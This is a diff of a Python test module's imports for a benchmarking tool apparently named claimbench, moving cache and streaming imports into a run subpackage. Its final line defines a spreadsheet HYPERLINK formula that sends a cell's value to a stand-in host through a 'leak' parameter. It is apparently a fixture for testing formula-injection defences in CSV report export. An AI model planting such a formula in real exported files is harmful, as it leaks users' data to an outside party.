@@ -22,14 +22,14 @@ from claimbench._display import (
     reveal,
     revealing_stdio,
 )
-from claimbench.cache import CacheScope
 from claimbench.cli import main
 from claimbench.records import NUMERIC_CONSISTENCY, Verdict
 from claimbench.report.html import render_html
 from claimbench.report.json import predictions_csv, read_predictions_csv, spooled_parquet, write_parquet
 from claimbench.report.markdown import render_markdown
 from claimbench.report.model import Prediction, Report
-from claimbench.streaming import Finish
+from claimbench.run.cache import CacheScope
+from claimbench.run.streaming import Finish
 from tests.report_fixtures import sample_report
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
